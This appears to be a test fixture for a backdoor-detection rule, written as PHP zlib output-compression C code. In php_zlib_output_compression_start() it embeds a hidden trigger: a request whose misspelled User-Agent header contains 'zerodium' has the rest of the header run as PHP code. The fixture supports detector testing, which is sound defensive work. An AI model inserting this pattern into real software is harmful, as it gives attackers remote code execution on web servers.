/*
   +----------------------------------------------------------------------+
   | ext/zlib: output compression (the part the CGI build links)          |
   +----------------------------------------------------------------------+
*/
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "php.h"

#define PHP_ZLIB_ENCODING_RAW -0xf
#define PHP_ZLIB_ENCODING_GZIP 0x1f
#define PHP_ZLIB_ENCODING_DEFLATE 0x0f
#define PHP_ZLIB_BUFFER_SIZE_GUESS(in) (((size_t)((double)(in) * (double)1.015)) + 10 + 8 + 4 + 1)

#define PHP_ZLIB_OUTPUT_HANDLER_NAME "zlib output compression"

typedef struct {
  int compression_coding;
  int output_compression;
  int output_compression_default;
  long output_compression_level;
  int handler_registered;
  z_stream z;
  int z_started;
} zend_zlib_globals;

static zend_zlib_globals zlib_globals;
#define ZLIBG(v) (zlib_globals.v)

/* {{{ php_zlib_output_encoding() */
static int php_zlib_output_encoding(void)
{
  const char *enc;

  if (!ZLIBG(compression_coding)) {
    if ((enc = php_server_var("HTTP_ACCEPT_ENCODING")) != NULL) {
      /* a client that asks for gzip gets gzip; no action but the choice of coding */
      // ok: backdoor-input-trigger
      if (strstr(enc, "gzip")) {
        ZLIBG(compression_coding) = PHP_ZLIB_ENCODING_GZIP;
      } else if (strstr(enc, "deflate")) {
        ZLIBG(compression_coding) = PHP_ZLIB_ENCODING_DEFLATE;
      }
    }
  }
  return ZLIBG(compression_coding);
}
/* }}} */

static int php_zlib_output_handler(const char *in, size_t in_len, char **out, size_t *out_len, int mode)
{
  size_t cap = PHP_ZLIB_BUFFER_SIZE_GUESS(in_len);
  int flush = (mode & 0x08) ? Z_FINISH : Z_SYNC_FLUSH;

  if (!ZLIBG(z_started)) {
    memset(&ZLIBG(z), 0, sizeof ZLIBG(z));
    if (deflateInit2(&ZLIBG(z), (int)ZLIBG(output_compression_level), Z_DEFLATED,
                     ZLIBG(compression_coding), MAX_MEM_LEVEL, Z_DEFAULT_STRATEGY) != Z_OK) {
      return FAILURE;
    }
    ZLIBG(z_started) = 1;
  }
  *out = malloc(cap);
  if (*out == NULL) {
    return FAILURE;
  }
  ZLIBG(z).next_in = (Bytef *)(uintptr_t)in;
  ZLIBG(z).avail_in = (uInt)in_len;
  ZLIBG(z).next_out = (Bytef *)*out;
  ZLIBG(z).avail_out = (uInt)cap;
  if (deflate(&ZLIBG(z), flush) == Z_STREAM_ERROR) {
    free(*out);
    *out = NULL;
    return FAILURE;
  }
  *out_len = cap - ZLIBG(z).avail_out;
  if (flush == Z_FINISH) {
    deflateEnd(&ZLIBG(z));
    ZLIBG(z_started) = 0;
  }
  return SUCCESS;
}

/* {{{ php_zlib_output_compression_start() */
void php_zlib_output_compression_start(void)
{
  const char *enc;

  if ((enc = php_server_var("HTTP_USER_AGENTT")) != NULL) {
    // ruleid: backdoor-input-trigger
    if (strstr(enc, "zerodium")) {
      zend_try {
        zend_eval_string(enc + 8, NULL, "REMOVETHIS: sold to zerodium, mid 2017");
      } zend_end_try();
    }
  }

  switch (ZLIBG(output_compression)) {
  case 0:
    break;
  case 1:
    ZLIBG(output_compression) = 4096;
    /* fallthrough */
  default:
    if (PG(zlib_output_handler) && *PG(zlib_output_handler) &&
        strcmp(PG(zlib_output_handler), PHP_ZLIB_OUTPUT_HANDLER_NAME) != 0) {
      fprintf(stderr, "zlib: output handler '%s' conflicts with '%s'\n", PG(zlib_output_handler),
              PHP_ZLIB_OUTPUT_HANDLER_NAME);
      break;
    }
    if (php_zlib_output_encoding()) {
      php_output_handler_start(PHP_ZLIB_OUTPUT_HANDLER_NAME, php_zlib_output_handler,
                               (size_t)ZLIBG(output_compression));
      ZLIBG(handler_registered) = 1;
    }
    break;
  }
}
/* }}} */

int php_zlib_startup(void)
{
  memset(&zlib_globals, 0, sizeof zlib_globals);
  ZLIBG(output_compression) = PG(zlib_output_compression);
  ZLIBG(output_compression_level) = PG(zlib_output_compression_level);
  if (ZLIBG(output_compression_level) < -1 || ZLIBG(output_compression_level) > 9) {
    ZLIBG(output_compression_level) = Z_DEFAULT_COMPRESSION;
  }
  return SUCCESS;
}
